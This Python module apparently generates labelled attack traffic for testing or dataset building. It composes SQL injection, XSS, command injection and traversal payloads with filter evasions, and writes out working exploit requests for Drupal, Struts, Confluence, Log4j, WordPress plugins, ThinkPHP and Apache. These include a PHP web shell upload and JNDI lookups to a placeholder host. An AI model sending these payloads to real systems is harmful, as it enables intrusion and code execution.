"""Attack payloads for the traffic generators, composed from techniques rather than copied.

Each builder draws a payload core for its class (SQL injection, XSS, command
injection, path traversal and file inclusion, CMS exploits), then evasions:
keyword case, comments and whitespace, encodings. The vocabulary lives in
``tables/attacks.json``; the builders only compose it, so the same random
state always gives the same payload.

    >>> import random
    >>> payload, technique = sqli_payload(random.Random(1))
    >>> isinstance(payload, str) and bool(technique)
    True
"""

from __future__ import annotations

import base64
import json
import random
import re
from importlib import resources
from typing import Any

#: Payload parts and evasions of each attack class, and where attacks are placed.
TABLES: dict[str, Any] = json.loads(
    resources.files(__package__).joinpath("tables", "attacks.json").read_text("utf-8")
)


def token(rng: random.Random, k: int) -> str:
    """``k`` random letters and digits (ids, junk in comments)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(alphabet) for _ in range(k))


_token = token
_ATTACKS = TABLES


def _mix_case(rng: random.Random, s: str, p: float = 0.5) -> str:
    return "".join(c.swapcase() if c.isalpha() and rng.random() < p else c for c in s)


def _kw_case(rng: random.Random, s: str) -> str:
    mode = rng.random()
    if mode < 0.45:
        return s
    if mode < 0.7:
        return s.lower()
    return _mix_case(rng, s)


_SQL_WS = _ATTACKS["sql_ws"]


def _sql_ws(rng: random.Random) -> str:
    ws = rng.choices([w for w, _ in _SQL_WS], weights=[k for _, k in _SQL_WS])[0]
    return ws.replace("x", _token(rng, rng.randint(1, 6))) if ws == "/*x*/" else ws


_SQL_OPEN = _ATTACKS["sql_open"]
_SQL_CLOSE = _ATTACKS["sql_close"]
_SQL_TAUT = _ATTACKS["sql_taut"]
_SQL_COLS = _ATTACKS["sql_cols"]
_SQL_TABLES = _ATTACKS["sql_tables"]
_SQL_ERROR = _ATTACKS["sql_error"]
_SQL_BLIND = _ATTACKS["sql_blind"]
_SQL_TIME = _ATTACKS["sql_time"]
_SQL_STACKED = _ATTACKS["sql_stacked"]
_SQL_PROBE = _ATTACKS["sql_probe"]
_SQL_OOB = _ATTACKS["sql_oob"]
_NOSQL = _ATTACKS["nosql"]


def sqli_payload(rng: random.Random) -> tuple[str, str]:
    """A SQL injection payload (and its technique) built from a context, a core and evasions."""
    family = rng.choices(
        [
            "tautology",
            "union",
            "error",
            "blind",
            "time",
            "stacked",
            "probe",
            "truncate",
            "oob",
            "nosql",
        ],
        weights=[22, 22, 10, 12, 12, 8, 5, 5, 2, 2],
    )[0]
    if family == "nosql":
        return rng.choice(_NOSQL), "sqli/nosql"
    opener = rng.choice(_SQL_OPEN)
    closer = rng.choice(_SQL_CLOSE)
    if family == "tautology":
        core = rng.choice(_SQL_TAUT)
    elif family == "union":
        cols = rng.choice(_SQL_COLS)
        core = "UNION " + rng.choice(["", "", "ALL ", "DISTINCT "]) + "SELECT " + cols
        core += "" if "FROM" in cols else rng.choice(_SQL_TABLES)
        if rng.random() < 0.15:
            core = core.replace("UNION ", "UNION(").replace("SELECT ", "SELECT(") + ")"
        if rng.random() < 0.1:
            core = core.replace("UNION", "/*!50000UNION*/").replace("SELECT", "/*!50000SELECT*/")
    elif family == "error":
        core = rng.choice(_SQL_ERROR)
    elif family == "blind":
        core = rng.choice(_SQL_BLIND)
    elif family == "time":
        core = rng.choice(_SQL_TIME)
    elif family == "stacked":
        core = rng.choice(_SQL_STACKED)
    elif family == "probe":
        core = rng.choice(_SQL_PROBE)
    elif family == "oob":
        core = rng.choice(_SQL_OOB)
    else:
        opener = rng.choice(["admin'", 'admin"', "administrator'", "root')", "' ", "1'"])
        core, closer = "", rng.choice(["--", "-- -", "#", "/*", "--+"])
    # Evasions: operators, case, whitespace, strings as hex.
    if rng.random() < 0.15:
        core = re.sub(r"\bOR ", "|| ", re.sub(r"\bAND ", "&& ", core))
    if rng.random() < 0.1 and "'admin'" not in core:
        core = core.replace("'1'='1", "'1' LIKE '1").replace("1=1", "1 LIKE 1")
    core = _kw_case(rng, core)
    ws = _sql_ws(rng)
    sep = "" if not core or opener.endswith(" ") else " "
    text = f"{opener}{sep}{core}" + (
        " " if closer and closer[0] in "-#" and rng.random() < 0.5 else ""
    )
    text = text.replace(" ", ws) if ws != " " else text
    return text + closer, f"sqli/{family}" + ("" if ws == " " else "/ws")


_JS = _ATTACKS["js"]
_XSS_TAGS = _ATTACKS["xss_tags"]
_XSS_BREAK = _ATTACKS["xss_break"]
_XSS_ATTR = _ATTACKS["xss_attr"]
_XSS_JSCTX = _ATTACKS["xss_jsctx"]
_XSS_URI = _ATTACKS["xss_uri"]
_XSS_ANGULAR = _ATTACKS["xss_angular"]


def _entities(rng: random.Random, s: str) -> str:
    if rng.random() < 0.5:
        return "".join(f"&#{ord(c)};" for c in s)
    return "".join(f"&#x{ord(c):x};" if rng.random() < 0.8 else c for c in s)


def xss_payload(rng: random.Random) -> tuple[str, str]:
    """A cross-site scripting payload built from a vector, a JavaScript body and evasions."""
    js = rng.choice(_JS)
    family = rng.choices(["tag", "attr", "jsctx", "uri", "angular"], weights=[62, 12, 10, 12, 4])[0]
    b64 = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    if family == "tag":
        tpl = rng.choice(_XSS_TAGS)
        if rng.random() < 0.15 and "on" in tpl:
            js = _entities(rng, js)
        text = rng.choice(_XSS_BREAK) + tpl.format(js=js, b64=b64)
        if rng.random() < 0.35:  # case of tag and attribute names
            text = _mix_case(rng, text.replace(js, "\x01"), 0.5).replace("\x01", js)
        if rng.random() < 0.1:
            text = text.replace("<", "< ", 0).replace(" ", rng.choice(["/", "\t", "\n", "  "]), 1)
    elif family == "attr":
        text = rng.choice(_XSS_ATTR).format(js=js)
    elif family == "jsctx":
        text = rng.choice(_XSS_JSCTX).format(js=js)
    elif family == "uri":
        text = rng.choice(_XSS_URI).format(js=js, b64=b64, ent=_entities(rng, "javascript"))
    else:
        text = rng.choice(_XSS_ANGULAR).format(js=js.replace("'", '"'))
    return text, f"xss/{family}"


_UNIX_CMDS = _ATTACKS["unix_cmds"]
_WIN_CMDS = _ATTACKS["win_cmds"]
_CMD_SEPS = _ATTACKS["cmd_seps"]
_CMD_PREFIX = _ATTACKS["cmd_prefix"]
_CODE_INJ = _ATTACKS["code_inj"]


def _evade_cmd(rng: random.Random, cmd: str) -> tuple[str, str]:
    r = rng.random()
    if r < 0.12 and " " in cmd:
        return cmd.replace(" ", rng.choice(["${IFS}", "$IFS$9", "\t", "${IFS%??}"])), "ifs"
    if r < 0.22:
        word, _, rest = cmd.partition(" ")
        if len(word) > 2 and word.isalpha():
            i = rng.randint(1, len(word) - 1)
            q = rng.choice(["''", '""', "\\", "$@", "$()"])
            return word[:i] + q + word[i:] + (" " + rest if rest else ""), "quote"
    if r < 0.27 and cmd.startswith("cat /etc/passwd"):
        return rng.choice(
            [
                "/???/c?t /???/p?ss??",
                "/bin/c[a]t /e[t]c/pa[s]swd",
                "{cat,/etc/passwd}",
                "cat /etc/pa??wd",
                "c\\at /et\\c/pas\\swd",
            ]
        ), "glob"
    if r < 0.31:
        b64 = base64.b64encode(cmd.encode()).decode()
        return f"echo {b64} | base64 -d | sh", "base64"
    return cmd, "plain"


def cmdi_payload(rng: random.Random) -> tuple[str, str]:
    """An OS command injection payload: separator, command and evasions."""
    r = rng.random()
    if r < 0.08:
        return rng.choice(_CODE_INJ), "cmdi/code"
    if r < 0.13:
        cmd = rng.choice(["/bin/bash -c 'id'", "/bin/cat /etc/passwd", "echo; /usr/bin/id"])
        return "() { :; }; " + cmd, "cmdi/shellshock"
    windows = r < 0.3
    cmd = rng.choice(_WIN_CMDS if windows else _UNIX_CMDS)
    how = "plain"
    if not windows:
        cmd, how = _evade_cmd(rng, cmd)
    sep = rng.choice(_CMD_SEPS if not windows else ["&", "&&", "|", "||", "\r\n", "\n"])
    prefix = rng.choice(_CMD_PREFIX)
    if sep == "`":
        text = f"{prefix}`{cmd}`"
    elif sep == "$(":
        text = f"{prefix}$({cmd})"
    elif sep == "%0a":
        text = f"{prefix}\n{cmd}"
    else:
        text = f"{prefix}{sep}{cmd}" if rng.random() < 0.6 else f"{prefix} {sep} {cmd}"
    if prefix in ("'", '"'):
        text += rng.choice([f"{sep}{prefix}", prefix, ""])
    elif rng.random() < 0.2:
        text += rng.choice([";", "#", "&", "|", " #"])
    return text, f"cmdi/{'win' if windows else 'unix'}/{how}"


_DOTS = _ATTACKS["dots"]
_SLASHES = _ATTACKS["slashes"]
_TARGETS = _ATTACKS["targets"]
_WRAPPERS = _ATTACKS["wrappers"]
_RFI = _ATTACKS["rfi"]
_ABSOLUTE = _ATTACKS["absolute"]


def _weighted(rng: random.Random, table: list[tuple[str, int]]) -> str:
    return rng.choices([a for a, _ in table], weights=[k for _, k in table])[0]


def traversal_payload(rng: random.Random) -> tuple[str, str]:
    """A path traversal or file inclusion payload: dots, slashes, depth, target and suffix."""
    r = rng.random()
    if r < 0.12:
        return rng.choice(_WRAPPERS), "traversal/wrapper"
    if r < 0.19:
        return rng.choice(_RFI), "traversal/rfi"
    if r < 0.27:
        return rng.choice(_ABSOLUTE), "traversal/absolute"
    dot, slash = _weighted(rng, _DOTS), _weighted(rng, _SLASHES)
    unit = rng.choices(
        [
            dot + dot + slash,
            dot * 4 + slash * 2,
            dot + dot + ";" + slash,
            dot + dot + "%00" + slash,
            dot * 3 + slash,
            dot + dot + slash + dot + slash,
        ],
        weights=[80, 6, 3, 2, 3, 4],
    )[0]
    depth = rng.randint(1, 10)
    target = rng.choice(_TARGETS)
    if slash not in ("/", "//"):
        target = target.replace("/", slash if "%" in slash or rng.random() < 0.7 else "/")
    lead = rng.choice(["", "", "", "/", "images/", "x/", "static/", dot + slash])
    suffix = rng.choice(
        ["", "", "", "%00", "%00.jpg", "%00.html", "?", ".png" if "%00" in unit else ""]
    )
    text = lead + unit * depth + target + suffix
    if rng.random() < 0.2 and "%" not in text:
        text = _mix_case(rng, text, 0.3)
    return text, "traversal/dotdot"


_OGNL = _ATTACKS["ognl"]


def cms_exploit(rng: random.Random) -> dict[str, Any]:
    """A request exploiting a known CMS or framework weakness (method, path, query, headers, body)."""
    jndi = rng.choice(
        [
            "${jndi:ldap://x.example/a}",
            "${${lower:j}${lower:n}di:ldap://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
            "${jndi:${lower:l}${lower:d}ap://x.example/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}",
            "${jndi:dns://x.example/a}",
        ]
    )
    options: list[dict[str, Any]] = [
        {
            "technique": "cms/wordpress/xmlrpc-pingback",
            "method": "POST",
            "path": "/xmlrpc.php",
            "headers": {"Content-Type": "text/xml"},
            "body": '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://203.0.113.9/</string></value></param><param><value><string>https://www.example.com/?p=1</string></value></param></params></methodCall>',
        },
        {
            "technique": "cms/wordpress/xmlrpc-multicall",
            "method": "POST",
            "path": "/xmlrpc.php",
            "headers": {"Content-Type": "text/xml"},
            "body": '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member></struct></value></data></array></value></param></params></methodCall>',
        },
        {
            "technique": "cms/wordpress/revslider",
            "method": "GET",
            "path": "/wp-admin/admin-ajax.php",
            "query": "action=revslider_show_image&img=../wp-config.php",
        },
        {
            "technique": "cms/wordpress/file-manager",
            "method": "POST",
            "path": "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
            "headers": {"Content-Type": "multipart/form-data; boundary=----x"},
            "body": '------x\r\nContent-Disposition: form-data; name="cmd"\r\n\r\nupload\r\n------x\r\nContent-Disposition: form-data; name="upload[]"; filename="x.php"\r\n\r\n<?php system($_GET[\'c\']); ?>\r\n------x--',
        },
        {
            "technique": "cms/wordpress/duplicator",
            "method": "GET",
            "path": "/wp-admin/admin-ajax.php",
            "query": "action=duplicator_download&file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        },
        {
            "technique": "cms/wordpress/config-backup",
            "method": "GET",
            "path": rng.choice(
                ["/wp-config.php.bak", "/wp-config.php.save", "/wp-config.php~", "/wp-config.old"]
            ),
        },
        {
            "technique": "cms/drupal/drupalgeddon2",
            "method": "POST",
            "path": "/user/register",
            "query": "element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
            "body": "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
        },
        {
            "technique": "cms/drupal/drupalgeddon2-encoded",
            "method": "POST",
            "path": "/user/register",
            "query": "element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
            "body": "form_id=user_register_form&_drupal_ajax=1&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D=passthru&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D%5B%5D=id",
        },
        {
            "technique": "cms/drupal/drupalgeddon",
            "method": "POST",
            "path": "/user/login",
            "body": "name[0%20;insert%20into%20users%20(uid,name)%20values%20(99,'x');;#%20%20]=test&name[0]=test&pass=test&form_id=user_login_block&op=Log+in",
        },
        {
            "technique": "cms/drupal/rest-rce",
            "method": "POST",
            "path": "/node",
            "query": "_format=hal_json",
            "headers": {"Content-Type": "application/hal+json"},
            "body": '{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp\\\\HandlerStack\\":0:{}i:1;s:7:\\"resolve\\";}}s:9:\\"_fn_close\\";a:0:{}}"}],"_links":{"type":{"href":"https://www.example.com/rest/type/shortcut/default"}}}',
        },
        {
            "technique": "cms/joomla/object-injection",
            "method": "GET",
            "path": "/",
            "headers": {
                "User-Agent": '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}}}}}\xf0\xfd\xfd\xfd'
            },
        },
        {
            "technique": "cms/joomla/com-fields-sqli",
            "method": "GET",
            "path": "/index.php",
            "query": "option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)",
        },
        {
            "technique": "cms/struts/cve-2017-5638",
            "method": "GET",
            "path": "/struts2-showcase/index.action",
            "headers": {"Content-Type": "%{(#_='multipart/form-data')." + _OGNL + "}"},
        },
        {
            "technique": "cms/struts/cve-2018-11776",
            "method": "GET",
            "path": "/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action",
        },
        {
            "technique": "cms/struts/cve-2013-2248",
            "method": "GET",
            "path": "/login.action",
            "query": rng.choice(
                [
                    "redirect:http://attacker.example/",
                    "redirectAction:http://attacker.example/%23",
                    "redirect%3Ahttps%3A%2F%2Fattacker.example",
                ]
            ),
        },
        {
            "technique": "cms/struts/cve-2013-2251",
            "method": "GET",
            "path": "/index.action",
            "query": "action:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%2C%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue%2C%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D",
        },
        {
            "technique": "cms/struts/cve-2017-9805",
            "method": "POST",
            "path": "/struts2-rest-showcase/orders/3",
            "headers": {"Content-Type": "application/xml"},
            "body": '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>id</string></command></next></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>',
        },
        {
            "technique": "cms/october/file-inclusion",
            "method": "GET",
            "path": rng.choice(
                [
                    "/combine/..%2f..%2f..%2fconfig%2fdatabase.php",
                    "/backend/cms/media?file=../../../../config/app.php",
                ]
            ),
        },
        {
            "technique": "cms/log4j",
            "method": "GET",
            "path": "/",
            "headers": {
                rng.choice(["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"]): jndi
            },
        },
        {
            "technique": "cms/log4j-query",
            "method": "GET",
            "path": "/search",
            "query": "q=" + jndi.replace("{", "%7B").replace("}", "%7D"),
        },
        {
            "technique": "cms/spring4shell",
            "method": "POST",
            "path": "/index",
            "body": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        },
        {
            "technique": "cms/confluence/cve-2022-26134",
            "method": "GET",
            "path": "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
        },
        {
            "technique": "cms/phpunit/eval-stdin",
            "method": "POST",
            "path": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "body": "<?php echo md5('phpunit'); ?>",
        },
        {
            "technique": "cms/thinkphp/invokefunction",
            "method": "GET",
            "path": "/index.php",
            "query": "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        },
        {
            "technique": "cms/apache/cve-2021-41773",
            "method": "GET",
            "path": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        },
    ]
    return dict(rng.choice(options))
